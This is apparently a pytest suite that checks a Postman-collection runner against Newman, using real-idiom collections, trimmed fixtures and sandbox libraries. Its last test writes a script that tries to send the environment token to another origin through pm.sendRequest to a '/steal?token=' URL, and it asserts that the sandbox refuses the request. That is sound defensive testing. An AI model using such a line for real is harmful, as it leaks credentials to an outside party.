"""Real public collections, trimmed, and the idioms the sweep found in them (README.md next
to this file: where each comes from, its licence, and the sweep's table).

- `collections/real_idioms.*`: a collection written here from idioms seen in those
  collections (a login by pm.sendRequest in the collection's pre-request script, legacy
  tests with Sugar's String#has, chai-postman jsonSchema on plain data, statusCode and
  statusReason, `pm.request.to`, Buffer, xml2Json, ajv, lodash), run through Newman and
  qaflow against the parity suite's booking API: every request and assertion must agree.
- `fixtures/*`: trimmed real collections that broke the importer or the sandbox before.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tasks.execution.features import validate_features
from tasks.pmsandbox.engine import Sandbox
from tasks.requirements import pmscript
from tasks.scenarios.direct import import_postman
from tests.postman_parity import harness
from tests.postman_parity.booking_api import booking_api

HERE = Path(__file__).parent
IDIOMS = HERE / "collections" / "real_idioms.postman_collection.json"
IDIOMS_ENV = HERE / "collections" / "real_idioms.postman_environment.json"
FIXTURES = HERE / "fixtures"


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict, dict]:
    out = tmp_path_factory.mktemp("sweep")
    with booking_api() as url:
        newman = harness.run_newman(IDIOMS, IDIOMS_ENV, url, out)
    with booking_api() as url:
        ours = harness.run_qaflow(IDIOMS, IDIOMS_ENV, url, out)
    return newman, ours


def test_real_idioms_agree_with_newman(runs: tuple[dict, dict]) -> None:
    newman, ours = runs
    # the comparison can fail: the collection fails on purpose in two places, in both tools
    failing = sorted(name for r in newman.values() for name, ok, _ in r.assertions if not ok)
    assert failing == ["Sugar's String#has (fails)", "wrong schema (fails)"]
    assert len([a for r in newman.values() for a in r.assertions]) == 16
    # Newman's report files a failed pm.sendRequest (the unreachable one) as the request's own
    # error and drops its response code; everything else must agree, assertion by assertion
    assert harness.differences(newman, ours) == ["Ping and parse XML: status None in newman, 201 in qaflow"]
    # the token the collection's pm.sendRequest fetched opened the PUT (403 without it)
    assert ours["Update booking with the token"].passed and ours["Update booking with the token"].code == 200


def _payload(event: str, body: Any, code: int = 200) -> dict[str, Any]:
    text = body if isinstance(body, str) else json.dumps(body)
    return {
        "event": event, "info": {"requestName": "r", "requestId": "r"},
        "request": {"method": "GET", "url": "http://localhost/", "headers": [], "body": None},
        "response": None if event == "prerequest" else {"code": code, "status": "OK", "body": text, "responseTime": 5,
                                                        "responseSize": len(text), "headers": [["Content-Type", "text/html"]]},
        "scopes": {"environment": {}, "collection": {}, "globals": {}, "local": {}, "data": {}}, "fallback": {},
    }


def _scripts(path: Path, listen: str) -> dict[str, str]:
    data = json.loads(path.read_text(encoding="utf-8"))
    chains = pmscript.script_chain(data)
    out = {}
    for chain in chains.values():
        code = "\n".join("\n".join(pmscript._exec_lines(node, listen)) for _, _, node in chain)
        if code.strip():
            out[chain[-1][1]] = code
    return out


@pytest.mark.parametrize("name, requests", [
    ("ezsystems-launchpad", 4), ("newman-inherited-entities", 8), ("newman-sandbox-libraries", 2),
])
def test_trimmed_real_collections_import_and_bind(tmp_path: Path, name: str, requests: int) -> None:
    result = import_postman(FIXTURES / f"{name}.postman_collection.json", tmp_path)
    assert result.errors == []
    assert result.postman_parts["requests"] == requests
    assert validate_features(result.features) == []


def test_legacy_sugar_has_of_a_real_collection_passes_and_fails_for_real() -> None:
    """ezsystems/launchpad: `tests["Page loaded"] = responseBody.has("eZ Platform")` (TypeError before)."""
    code = _scripts(FIXTURES / "ezsystems-launchpad.postman_collection.json", "test")["Load Home Page"]
    sandbox = Sandbox()
    good = sandbox.run(code, _payload("test", "<html><title>eZ Platform</title></html>"))
    bad = sandbox.run(code, _payload("test", "<html>Apache default page</html>", 500))
    assert good.error is None and {t.name: t.passed for t in good.tests} == {"Page loaded": True, "Status code is 200": True}
    assert bad.error is None and {t.name: t.passed for t in bad.tests} == {"Page loaded": False, "Status code is 200": False}


def test_chai_postman_and_ajv_of_newmans_own_collection() -> None:
    """newman's sandbox-libraries collection: jsonSchema on plain data and require('ajv') (both
    failed before). Test "2" compares ajv's exact error text, which qaflow words its own way."""
    scripts = _scripts(FIXTURES / "newman-sandbox-libraries.postman_collection.json", "test")
    sandbox = Sandbox()
    ajv = sandbox.run(scripts["AJV"], _payload("test", {"url": "https://postman-echo.com/get"}))
    assert ajv.error is None and all(t.passed for t in ajv.tests) and len(ajv.tests) >= 2
    chai = sandbox.run(scripts["chai-postman"], _payload("test", {"url": "https://postman-echo.com/get"}))
    assert chai.error is None
    assert {t.name: t.passed for t in chai.tests} == {
        "0: valid schema": True, "1: negated assertions": True, "2: incorrect assertions": False,
        "3: incorrect negated assertions": True, "4: pm.response.to": True, "5: pm.response.to.not": True,
    }


def test_send_request_cannot_reach_another_origin(tmp_path: Path) -> None:
    """A script that tries to send the token elsewhere by pm.sendRequest: the run's HTTP
    session refuses the origin (nothing is sent, the callback gets err), as for any step."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    hits: list[str] = []

    class Elsewhere(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    elsewhere = f"http://127.0.0.1:{server.server_address[1]}"
    collection = {
        "info": {"name": "Exfiltration", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
        "item": [{"name": "Ping", "request": {"method": "GET", "url": "{{baseUrl}}/ping"},
                  "event": [{"listen": "test", "script": {"exec": [
                      "pm.test('the other origin is refused', function (done) {",
                      f"    pm.sendRequest('{elsewhere}/steal?token=' + pm.environment.get('token'), function (err, res) {{",
                      "        pm.expect(String(err)).to.include('127.0.0.1');",
                      "        pm.expect(res).to.be.undefined;",
                      "        done();",
                      "    });",
                      "});"]}}]}],
    }
    path = tmp_path / "exfiltration.postman_collection.json"
    path.write_text(json.dumps(collection), encoding="utf-8")
    try:
        with booking_api() as url:
            ours = harness.run_qaflow(path, None, url, tmp_path)
    finally:
        server.shutdown()
        server.server_close()
    assert ours["Ping"].assertions == [("the other origin is refused", True, False)]
    assert ours["Ping"].code == 201
    assert hits == []
